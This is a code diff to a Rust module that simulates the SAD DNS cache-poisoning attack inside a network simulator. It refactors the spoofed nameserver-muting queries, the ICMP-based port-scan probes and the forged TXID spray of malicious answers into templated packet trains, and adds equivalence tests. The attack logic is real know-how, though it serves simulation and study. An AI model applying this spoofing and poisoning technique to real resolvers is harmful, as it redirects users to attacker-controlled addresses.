@@ -17,6 +17,16 @@
 //!    batch, refined by divide and conquer;
 //! 4. **brute-force the TXID** — with the port known, spray spoofed responses
 //!    for all 2¹⁶ transaction IDs.
+//!
+//! All three floods are packet trains ([`Simulator::inject_train`]) copied
+//! from one [`UdpTemplate`] each: the mute queries are one train per run of
+//! equal wire length (`mute0`…`mute9`, `mute10`…`mute99`, …) with the TXID
+//! and the label digits patched, a scan batch is one train with the
+//! destination port patched, and the spray is one train with the TXID
+//! patched. Every packet is still built in full and checksummed (the
+//! template updates the UDP checksum incrementally), and the trains reserve
+//! the seqs the single injections would have, so the delivery order and
+//! every outcome are those of packet-by-packet injection.
 
 use crate::env::{QueryTrigger, VictimEnv};
 use crate::outcome::{AttackReport, FailureReason, PoisonMethod};
@@ -84,46 +94,110 @@ impl SadDnsConfig {
     }
 }
 
-/// The spoofed response of the TXID spray, framed once. The 2^16 packets
-/// differ only in the DNS TXID (the first payload word) and the IP ID, so
-/// each is a pooled copy of the template with those two patched and the UDP
-/// checksum updated incrementally (RFC 1624) instead of summed again.
-struct SprayTemplate {
-    /// The response for TXID 0 with IP ID 0.
-    pkt: Ipv4Packet,
-    /// Its UDP checksum (UDP header bytes 6-7).
-    checksum: u16,
+/// Datagram offset of the destination port in a UDP header.
+const DST_PORT_AT: usize = 2;
+/// Datagram offset of the DNS TXID: the first word after the UDP header.
+const TXID_AT: usize = UDP_HEADER_LEN;
+/// Datagram offset of the digits of a mute query's `mute<i>` label: past the
+/// UDP header, the 12-byte DNS header, the label's length byte and `mute`.
+const MUTE_DIGITS_AT: usize = UDP_HEADER_LEN + 12 + 1 + 4;
+
+/// Mute query `i`: a query with TXID `i` for `mute<i>.<target>`, or for the
+/// bare target when that name is too long, spoofed from the resolver. The
+/// flag says whether the `mute<i>` label is there.
+fn mute_query(cfg: &SadDnsConfig, resolver: Ipv4Addr, nameserver: Ipv4Addr, i: u32) -> (UdpDatagram, bool) {
+    let (name, labelled) = match cfg.target_name.prepend(&format!("mute{i}")) {
+        Ok(name) => (name, true),
+        Err(_) => (cfg.target_name.clone(), false),
+    };
+    let q = Message::query(i as u16, name, RecordType::A);
+    (UdpDatagram::new(resolver, nameserver, 5300, 53, q.encode()), labelled)
 }
 
-impl SprayTemplate {
-    /// The forged answer planting `malicious_addr` for `target_name`, with TXID 0.
-    fn response(cfg: &SadDnsConfig) -> Message {
-        let mut msg = Message::query(0, cfg.target_name.clone(), cfg.qtype);
-        msg.header.is_response = true;
-        msg.header.authoritative = true;
-        msg.answers.push(ResourceRecord::new(cfg.target_name.clone(), 3600, RData::A(cfg.malicious_addr)));
-        msg
-    }
+/// The runs `start..end` of mute query indices whose `i` has as many decimal
+/// digits: `0..10`, `10..100`, `100..1000`, … cut at `count`. The queries of
+/// a run have one wire length, so each run is one train.
+fn mute_runs(count: u32) -> impl Iterator<Item = (u32, u32)> {
+    std::iter::successors(Some((0, 10.min(count))), move |&(_, end)| {
+        (end < count).then_some((end, end.saturating_mul(10).min(count)))
+    })
+    .filter(|&(start, end)| start < end)
+}
 
-    fn new(cfg: &SadDnsConfig, nameserver: Ipv4Addr, resolver: Ipv4Addr, port: u16) -> Self {
-        let wire = Self::response(cfg).encode();
-        let pkt = UdpDatagram::new(nameserver, resolver, 53, port, wire).into_packet(0, 64);
-        let checksum = u16::from_be_bytes([pkt.payload[6], pkt.payload[7]]);
-        SprayTemplate { pkt, checksum }
+/// Mute queries `start..end` (one run of [`mute_runs`]) as a train: packet
+/// `k` is query `start + k`, copied from the run's template with its TXID,
+/// its label digits and its IP ID patched.
+fn mute_train(
+    cfg: &SadDnsConfig,
+    resolver: Ipv4Addr,
+    nameserver: Ipv4Addr,
+    start: u32,
+) -> impl FnMut(u32) -> Ipv4Packet + 'static {
+    let (query, labelled) = mute_query(cfg, resolver, nameserver, start);
+    let template = UdpTemplate::new(query, 64);
+    let width = start.checked_ilog10().map_or(1, |log| log as usize + 1);
+    move |k| {
+        let i = start + k;
+        let txid = (i as u16).to_be_bytes();
+        let mut digits = [0u8; 10];
+        let mut rest = i;
+        for d in digits[..width].iter_mut().rev() {
+            *d = b'0' + (rest % 10) as u8;
+            rest /= 10;
+        }
+        let digits = if labelled { &digits[..width] } else { &[] };
+        template.packet(i as u16, &[(TXID_AT, &txid), (MUTE_DIGITS_AT, digits)])
     }
+}
 
-    /// The spoofed response carrying `txid` as its TXID and IP ID.
-    fn packet(&self, txid: u16) -> Ipv4Packet {
-        let mut payload = netsim::pool::take(self.pkt.payload.len());
-        payload.extend_from_slice(&self.pkt.payload);
-        payload[UDP_HEADER_LEN..UDP_HEADER_LEN + 2].copy_from_slice(&txid.to_be_bytes());
-        // A computed zero goes on the wire as all ones (RFC 768).
-        let checksum = match netsim::checksum::update(self.checksum, 0, txid) {
-            0 => 0xffff,
-            ck => ck,
+/// A batch of `batch_size` spoofed scan probes as a train, all from one
+/// template with the destination port and IP ID patched: first the
+/// candidate `ports` (IP IDs `1000 + k`), then pads to ports 2, 3, … that
+/// are (almost certainly) closed (IP IDs `2000 + k`), so the batch always
+/// carries exactly `batch_size` probes.
+fn probe_train(
+    batch_size: u16,
+    nameserver: Ipv4Addr,
+    resolver: Ipv4Addr,
+    ports: &[u16],
+) -> impl FnMut(u32) -> Ipv4Packet + 'static {
+    let candidates: Vec<u16> = ports.iter().take(usize::from(batch_size)).copied().collect();
+    let mut zeros = netsim::pool::take(UDP_HEADER_LEN + 8);
+    zeros.resize(8, 0);
+    let template = UdpTemplate::new(UdpDatagram::new(nameserver, resolver, 53, 0, zeros), 64);
+    move |k| {
+        let k = k as u16;
+        let (port, id) = match candidates.get(usize::from(k)) {
+            Some(&port) => (port, 1000 + k),
+            None => (2 + k - candidates.len() as u16, 2000 + k),
         };
-        payload[6..8].copy_from_slice(&checksum.to_be_bytes());
-        Ipv4Packet { header: Ipv4Header { identification: txid, ..self.pkt.header }, payload }
+        template.packet(id, &[(DST_PORT_AT, &port.to_be_bytes())])
+    }
+}
+
+/// The forged answer of the TXID spray, planting `malicious_addr` for
+/// `target_name`, with TXID 0.
+fn spray_response(cfg: &SadDnsConfig) -> Message {
+    let mut msg = Message::query(0, cfg.target_name.clone(), cfg.qtype);
+    msg.header.is_response = true;
+    msg.header.authoritative = true;
+    msg.answers.push(ResourceRecord::new(cfg.target_name.clone(), 3600, RData::A(cfg.malicious_addr)));
+    msg
+}
+
+/// The TXID spray at `port` as a train: packet `k` is the forged answer with
+/// TXID and IP ID `k`, copied from one template.
+fn spray_train(
+    cfg: &SadDnsConfig,
+    nameserver: Ipv4Addr,
+    resolver: Ipv4Addr,
+    port: u16,
+) -> impl FnMut(u32) -> Ipv4Packet + 'static {
+    let response = UdpDatagram::new(nameserver, resolver, 53, port, spray_response(cfg).encode());
+    let template = UdpTemplate::new(response, 64);
+    move |k| {
+        let txid = k as u16;
+        template.packet(txid, &[(TXID_AT, &txid.to_be_bytes())])
     }
 }
 
@@ -145,23 +219,8 @@ impl SadDnsAttack {
     fn probe_set(&self, sim: &mut Simulator, env: &VictimEnv, ports: &[u16]) -> bool {
         let cfg = &self.config;
         let t0 = sim.now();
-        let mut sent = 0u16;
-        for &port in ports.iter().take(cfg.batch_size as usize) {
-            let probe = UdpDatagram::new(env.nameserver_addr, env.resolver_addr, 53, port, vec![0u8; 8])
-                .into_packet(1000 + sent, 64);
-            sim.inject(env.attacker, probe);
-            sent += 1;
-        }
-        // Pad with probes to ports that are (almost certainly) closed so the
-        // batch always carries exactly `batch_size` spoofed probes.
-        let mut pad_port = 2;
-        while sent < cfg.batch_size {
-            let probe = UdpDatagram::new(env.nameserver_addr, env.resolver_addr, 53, pad_port, vec![0u8; 8])
-                .into_packet(2000 + sent, 64);
-            sim.inject(env.attacker, probe);
-            pad_port += 1;
-            sent += 1;
-        }
+        let probes = probe_train(cfg.batch_size, env.nameserver_addr, env.resolver_addr, ports);
+        sim.inject_train(env.attacker, u32::from(cfg.batch_size), probes);
         // Verification probe from the attacker's own address to a closed port.
         let verify =
             UdpDatagram::new(env.attacker_addr, env.resolver_addr, 4444, 7, vec![0u8; 8]).into_packet(3000, 64);
@@ -221,15 +280,16 @@ impl SadDnsAttack {
     /// Mutes the nameserver by exhausting its response-rate-limit budget with
     /// spoofed queries that appear to come from the victim resolver.
     fn mute_nameserver(&self, sim: &mut Simulator, env: &VictimEnv) {
-        let cfg = &self.config;
-        for i in 0..cfg.mute_queries {
-            let name = cfg.target_name.prepend(&format!("mute{i}")).unwrap_or_else(|_| cfg.target_name.clone());
-            let q = Message::query(i as u16, name, RecordType::A);
-            let pkt = UdpDatagram::new(env.resolver_addr, env.nameserver_addr, 5300, 53, q.encode())
-                .into_packet(i as u16, 64);
-            sim.inject(env.attacker, pkt);
-        }
+        self.send_mute_queries(sim, env);
         sim.run_for(Duration::from_millis(30));
+    }
+
+    /// Sends the mute queries, one train per run of equal wire length.
+    fn send_mute_queries(&self, sim: &mut Simulator, env: &VictimEnv) {
+        for (start, end) in mute_runs(self.config.mute_queries) {
+            let queries = mute_train(&self.config, env.resolver_addr, env.nameserver_addr, start);
+            sim.inject_train(env.attacker, end - start, queries);
+        }
     }
 
     /// Sprays spoofed responses over the TXID space at the identified port.
@@ -239,8 +299,7 @@ impl SadDnsAttack {
         let space: u32 = if cfg.full_txid_sweep { 1 << 16 } else { 4096 };
         // One train: each response is built from the template only when it
         // is delivered, so the spray's working set is one packet, not 2^16.
-        let template = SprayTemplate::new(cfg, env.nameserver_addr, env.resolver_addr, port);
-        sim.inject_train(env.attacker, space, move |txid| template.packet(txid as u16));
+        sim.inject_train(env.attacker, space, spray_train(cfg, env.nameserver_addr, env.resolver_addr, port));
         sim.run_for(Duration::from_millis(200));
         u64::from(space)
     }
@@ -470,6 +529,9 @@ mod tests {
         assert_eq!(sim_a.counters(), sim_b.counters(), "nor the engine's work");
         let (resolver_a, resolver_b) = (env_a.resolver(&sim_a), env_b.resolver(&sim_b));
         assert_eq!(resolver_a.stats, resolver_b.stats);
+        // The mute trains reach the nameserver batched in one run and packet
+        // by packet in the other.
+        assert_eq!(env_a.nameserver(&sim_a).stats, env_b.nameserver(&sim_b).stats);
         let icmp = |r: &Resolver| (r.stack().icmp_limiter().allowed, r.stack().icmp_limiter().suppressed);
         assert_eq!(icmp(resolver_a), icmp(resolver_b));
         assert!(icmp(resolver_a).1 > 0, "the spray's tail hit a closed port after the ICMP budget ran out");
@@ -478,22 +540,112 @@ mod tests {
         }
     }
 
+    /// Asserts that `framed` is byte-for-byte `expected` and that the UDP
+    /// parser accepts its checksum, then returns both buffers to the pool.
+    fn assert_framed_like(framed: Ipv4Packet, expected: Ipv4Packet, what: &str) {
+        assert_eq!(framed.header, expected.header, "{what}");
+        assert_eq!(framed.payload, expected.payload, "{what}");
+        assert!(UdpDatagram::parse(&framed).is_ok(), "{what}: the checksum verifies");
+        netsim::pool::give(framed.payload);
+        netsim::pool::give(expected.payload);
+    }
+
+    /// Frames every mute query of `cfg` from its run's template and checks
+    /// it against a full encode; returns the runs.
+    fn assert_mute_queries_framed_like_a_full_encode(cfg: &SadDnsConfig) -> Vec<(u32, u32)> {
+        let runs: Vec<(u32, u32)> = mute_runs(cfg.mute_queries).collect();
+        for &(start, end) in &runs {
+            let mut make = mute_train(cfg, addrs::RESOLVER, addrs::NAMESERVER, start);
+            for i in start..end {
+                let (query, _) = mute_query(cfg, addrs::RESOLVER, addrs::NAMESERVER, i);
+                assert_framed_like(make(i - start), query.into_packet(i as u16, 64), &format!("mute query {i}"));
+            }
+        }
+        runs
+    }
+
     #[test]
-    fn spray_template_frames_every_txid_like_a_full_encode() {
+    fn every_mute_query_is_framed_like_a_full_encode() {
+        let cfg = SadDnsConfig::new(addrs::ATTACKER);
+        let runs = assert_mute_queries_framed_like_a_full_encode(&cfg);
+        assert_eq!(runs, [(0, 10), (10, 100), (100, 1000), (1000, 2000)], "four trains, one per digit count");
+        assert_eq!(mute_runs(0).count(), 0);
+        assert_eq!(mute_runs(7).collect::<Vec<_>>(), [(0, 7)]);
+        assert_eq!(mute_runs(100).collect::<Vec<_>>(), [(0, 10), (10, 100)]);
+    }
+
+    /// A target name with no room for the `mute<i>` label.
+    fn long_target() -> DomainName {
+        let label = "x".repeat(60);
+        let name: DomainName = format!("{label}.{label}.{label}.{}.vict.im", "y".repeat(58)).parse().unwrap();
+        assert!(name.prepend("mute0").is_err(), "no room for the mute label");
+        name
+    }
+
+    #[test]
+    fn mute_queries_for_a_name_too_long_to_prepend_patch_only_the_txid() {
+        let mut cfg = SadDnsConfig::new(addrs::ATTACKER);
+        cfg.target_name = long_target();
+        assert_eq!(assert_mute_queries_framed_like_a_full_encode(&cfg).len(), 4);
+    }
+
+    #[test]
+    fn every_scan_probe_is_framed_like_a_full_encode() {
+        let probe = |port: u16, id: u16| {
+            UdpDatagram::new(addrs::NAMESERVER, addrs::RESOLVER, 53, port, vec![0u8; 8]).into_packet(id, 64)
+        };
+        let batch = ICMP_PROBE_BATCH;
+        let full: Vec<u16> = (40000..40000 + batch).collect();
+        let halves = [&full[..], &full[..21], &full[..1], &[]];
+        for ports in halves {
+            let mut make = probe_train(batch, addrs::NAMESERVER, addrs::RESOLVER, ports);
+            for k in 0..batch {
+                let expected = match ports.get(usize::from(k)) {
+                    Some(&port) => probe(port, 1000 + k),
+                    None => probe(2 + k - ports.len() as u16, 2000 + k),
+                };
+                assert_framed_like(make(u32::from(k)), expected, &format!("probe {k} of {} candidates", ports.len()));
+            }
+        }
+    }
+
+    #[test]
+    fn every_spray_txid_is_framed_like_a_full_encode() {
         let cfg = attack_cfg();
         let port = 40123;
-        let template = SprayTemplate::new(&cfg, addrs::NAMESERVER, addrs::RESOLVER, port);
-        let mut msg = SprayTemplate::response(&cfg);
+        let mut make = spray_train(&cfg, addrs::NAMESERVER, addrs::RESOLVER, port);
+        let mut msg = spray_response(&cfg);
         for txid in 0..=u16::MAX {
             msg.header.id = txid;
             let expected =
                 UdpDatagram::new(addrs::NAMESERVER, addrs::RESOLVER, 53, port, msg.encode()).into_packet(txid, 64);
-            let framed = template.packet(txid);
-            assert_eq!(framed.header, expected.header, "txid {txid}");
-            assert_eq!(framed.payload, expected.payload, "txid {txid}");
-            assert!(UdpDatagram::parse(&framed).is_ok(), "txid {txid}: the checksum verifies");
-            netsim::pool::give(framed.payload);
-            netsim::pool::give(expected.payload);
+            assert_framed_like(make(u32::from(txid)), expected, &format!("txid {txid}"));
+        }
+    }
+
+    /// Mute trains delivered in batches by `run` and one packet per call by
+    /// `step` leave the nameserver, the engine and every node in one state,
+    /// also when the target name is too long for the `mute<i>` label.
+    #[test]
+    fn batched_mute_trains_match_step_driven_delivery() {
+        for target in ["www.vict.im".parse().unwrap(), long_target()] {
+            let mut cfg = attack_cfg();
+            cfg.target_name = target;
+            let attack = SadDnsAttack::new(cfg);
+            let (mut batched, env_a) = saddns_env(false, false, true);
+            attack.send_mute_queries(&mut batched, &env_a);
+            batched.run();
+            let (mut stepped, env_b) = saddns_env(false, false, true);
+            attack.send_mute_queries(&mut stepped, &env_b);
+            while stepped.step() {}
+            let ns = env_a.nameserver(&batched);
+            assert_eq!(ns.stats, env_b.nameserver(&stepped).stats);
+            assert_eq!(ns.stats.queries_received, u64::from(attack.config.mute_queries), "every query arrived");
+            assert_eq!(batched.counters(), stepped.counters());
+            assert_eq!(batched.now(), stepped.now());
+            for i in 0..batched.node_count() {
+                assert_eq!(batched.stats(NodeId(i)), stepped.stats(NodeId(i)), "{}", batched.node_name(NodeId(i)));
+            }
         }
     }
 
